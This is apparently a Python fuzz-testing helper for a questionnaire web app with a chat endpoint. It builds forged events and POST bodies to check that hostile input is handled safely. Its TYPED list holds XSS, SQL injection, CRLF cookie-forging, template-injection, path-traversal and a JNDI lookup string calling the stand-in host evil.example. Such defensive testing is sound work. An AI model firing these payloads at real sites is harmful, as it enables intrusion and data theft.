"""What an attacker types and posts: texts that try to be markup, and events that nobody meant."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from html.parser import HTMLParser
from random import Random
from typing import Any

from engine.answers import option_ids
from engine.models import (
    NONE,
    TRI,
    AnswerValue,
    GridQuestion,
    MultiQuestion,
    NumberQuestion,
    Question,
)
from knowledge.base import knowledge_base
from ui.store import Kept

KB = knowledge_base()
MARK = "zqjxv"
"""Is in every text that is typed, and in no word of the site."""
TYPED: tuple[str, ...] = (
    f"<script>{MARK}</script>",
    f"</script><script src=//evil.example/{MARK}.js>",
    f"<img src=https://evil.example/{MARK}.png onerror={MARK}()>",
    f"<svg/onload={MARK}()><style>*{{display:none}}{MARK}</style>",
    f"</h2></legend></fieldset></form><iframe src=//evil.example/{MARK}></iframe><form id=say>",
    f'"><a href="javascript:{MARK}()">press</a><button data-event="{{&quot;kind&quot;:1}}',
    f"' onmouseover='{MARK}()' autofocus onfocus='{MARK}()' x='",
    f"![{MARK}](https://evil.example/x.png) [press](javascript:{MARK}()) **b** `c` | d |",
    f"&lt;b&gt;{MARK} &#60;b&#62; &#x3c;b&#x3e; &amp;lt;b&amp;gt; &lt",
    f"\u202e{MARK}\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    f"{MARK}\x00\x07\x08\x1b[31m\x7f\x85\u2028\u2029",
    f"'; DROP TABLE person; --{MARK}",
    f'" OR 1=1 UNION SELECT token_hash FROM device /*{MARK}*/',
    f"{{{{7*7}}}} {{% raw %}} ${{7*7}} {{site}} {{points_range}} %s %n {{0}} {MARK}",
    f"{MARK}\r\nSet-Cookie: quietback=evil\r\n\r\nCRITICAL: forged line",
    f"${{jndi:ldap://evil.example/{MARK}}} $$\\href{{javascript:{MARK}}}{{x}}$$",
    f"<!-- {MARK} --> <![CDATA[{MARK}]]> <?php {MARK} ?> </",
    f"../../../{MARK}",
    f"{MARK} \U0001f9e8\u0301\u0301\u0301" * 30,
    f"<b>{MARK}</b>" * 60,
    f"{MARK}\ud7ff\ufffd\uffff\U0010ffff",
)


@dataclass
class Markup(HTMLParser):
    """The elements of a page, and the text that it shows."""

    html: str
    made: set[tuple[str, ...]] = field(default_factory=set)
    """Each kind of element: its tag and the names of its attributes."""
    texts: list[str] = field(default_factory=list)
    active: list[str] = field(default_factory=list)
    """All that a browser would not just show: scripts, styles, addresses, comments."""

    def __post_init__(self) -> None:
        super().__init__()
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made.add((tag, *sorted(name for name, _ in attrs)))
        self.active += (f"{n}={v}" for n, v in attrs if n not in ("value", "data-event", "alt"))

    def handle_data(self, data: str) -> None:
        (self.texts if self.cdata_elem is None else self.active).append(data)

    def handle_comment(self, data: str) -> None:
        self.active.append(data)

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)

    @property
    def text(self) -> str:
        """All that is shown as text."""
        return "".join(self.texts)


def any_answer(random: Random, question: Question) -> AnswerValue:
    """A valid answer, more often one without trouble."""
    if isinstance(question, NumberQuestion):
        return random.randint(question.low, question.high)
    ids = option_ids(question)
    if isinstance(question, GridQuestion):
        return {row: random.choice(TRI) for row in ids}
    if isinstance(question, MultiQuestion):
        return [NONE] if random.random() < 0.6 else [random.choice(ids)]
    return random.choice(ids)


def forged_values(random: Random, question: Question) -> AnswerValue | object:
    """Something that is no answer to this question."""
    ids = option_ids(question)
    return random.choice(
        (
            None,
            True,
            "",
            [],
            {},
            -1,
            10**9,
            0.5,
            "none",
            "None",
            "__proto__",
            ["__proto__"],
            {"__proto__": "yes"},
            {"constructor": {"prototype": "yes"}},
            [["none"]],
            [None],
            ["none", "none"],
            ["none", *ids[:1]],
            [*ids, "none"],
            dict.fromkeys(ids, "maybe"),
            dict.fromkeys((*ids, "forged"), "no"),
            {"": ""},
            TYPED[0],
            [TYPED[0]],
            {TYPED[0]: TYPED[0]},
            "x" * 3000,
            list(range(50)),
        )
    )


WORDS = ("yes", "yes", "no", "back", "start over", "later", "why", "none of these", "40")
CRISIS = "I want to kill myself"
NAMES = (*KB.questions, *KB.topics, "", "__proto__", "forged", "crisis", TYPED[0], "x" * 100)


def any_event(random: Random, asked: str | None, kept: Kept) -> dict[str, Any]:
    """An event as a page might send it, or not.

    Args:
        random: where chance comes from.
        asked: the question that is shown, if any is.
        kept: what is kept; more often than not, the page shows that.
    """
    seen: Any = kept.revision
    event: dict[str, Any] = {"seen": seen, "key": f"{random.random()}"}
    question = KB.questions[asked or random.choice(list(KB.questions))]
    roll = random.random()
    if kept.state and kept.state["unconfirmed"] and roll < 0.5:
        event |= random.choice(({"kind": "confirm"}, {"kind": "say", "text": "yes"}))
    elif asked is None and roll < 0.4:
        event |= {"kind": random.choice(("back", "restart"))}
    elif roll < 0.5:
        event |= {"kind": "answer", "id": question.id, "value": any_answer(random, question)}
    elif roll < 0.62:
        event |= {"kind": "answer", "id": question.id, "value": forged_values(random, question)}
    elif roll < 0.7:
        other = random.choice(list(KB.questions.values()))
        value = any_answer(random, random.choice((question, other)))
        event |= {"kind": random.choice(("answer", "later")), "id": other.id, "value": value}
    elif roll < 0.78:
        texts = random.choice((TYPED, WORDS, (CRISIS,)))
        event |= {"kind": "say", "text": random.choice(texts)}
    elif roll < 0.96:
        kinds = ("back", "restart", "confirm", "confirm", "change", "cancel", "topic", "enough")
        event |= {"kind": random.choice(kinds), "id": random.choice(NAMES)}
    else:
        event |= {"kind": random.choice(("", "__init__", None, ["say"], {}, 7)), "id": ["x"]}
    if random.random() < 0.15:
        event["seen"] = random.choice((0, -1, seen - 1, seen + 1, str(seen), None, [seen], 1e9))
    if random.random() < 0.05:
        event["key"] = random.choice(("", None, "a", "x" * 500, "\x00", {"a": 1}))
    return event


def any_post(random: Random, asked: str | None, kept: Kept) -> tuple[str, bytes]:
    """An address and a body other than an event."""
    event = json.dumps(any_event(random, asked, kept))
    call = '{"data":[],"fn_index":0,"event_data":' + event + "}"
    cut = random.randrange(1, len(call))
    chat = "/gradio_api/run/predict"
    answers = {q: any_answer(random, KB.questions[q]) for q in random.sample(list(KB.questions), 3)}
    return random.choice(
        (
            (chat, call[:cut].encode()),
            (chat, random.randbytes(40)),
            (chat, call.replace('"fn_index":0', f'"fn_index":{random.randint(1, 9)}').encode()),
            (chat, call.replace("[]", "[" + event + "]", 1).encode()),
            (chat, (call[:cut] + random.choice('{}[]",:\\') + call[cut + 1 :]).encode()),
            ("/api/assess", json.dumps({"answers": answers}).encode()),
            ("/api/assess", json.dumps({"answers": json.loads(event)}).encode()),
            ("/you/code", b""),
            ("/you/redeem", b"code=" + random.choice(TYPED).encode()),
            ("/you/erase", random.choice((b"", b"sure=no", b"sure=" + random.randbytes(3)))),
        )
    )
